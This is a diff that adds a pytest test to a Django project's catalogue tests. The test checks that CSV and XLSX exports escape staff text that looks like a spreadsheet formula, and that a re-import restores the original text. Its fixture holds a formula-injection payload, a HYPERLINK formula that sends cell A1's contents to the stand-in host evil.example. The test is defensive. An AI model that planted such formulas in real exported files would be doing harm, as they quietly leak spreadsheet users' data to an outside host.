@@ -141,3 +141,23 @@ def test_import_dry_run_changes_nothing(tmp_path, catalogue):
     call_command("import_catalogue", str(path), "--dry-run")
 
     assert Publication.objects.filter(price=Decimal("1.00")).count() == 0
+
+
+@pytest.mark.parametrize("file_name", ["catalogue.csv", "catalogue.xlsx"])
+def test_export_writes_staff_text_that_looks_like_a_formula_as_text_and_reads_it_back(tmp_path, file_name):
+    publication = PublicationFactory(title='=HYPERLINK("https://evil.example/?"&A1,"Click")', subtitle="@SUM(1+1)")
+    path = tmp_path / file_name
+
+    call_command("export_catalogue", str(path))
+
+    if file_name.endswith(".csv"):
+        [row] = list(csv.DictReader(path.open(encoding="utf-8")))
+        title, subtitle = row["title"], row["subtitle"]
+    else:
+        sheet = openpyxl.load_workbook(path).active
+        header = [cell.value for cell in sheet[1]]
+        title, subtitle = (sheet.cell(2, header.index(name) + 1).value for name in ("title", "subtitle"))
+    assert title == "'" + publication.title and subtitle == "'@SUM(1+1)"
+    call_command("import_catalogue", str(path))
+    publication.refresh_from_db()
+    assert (publication.title, publication.subtitle) == ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(1+1)")
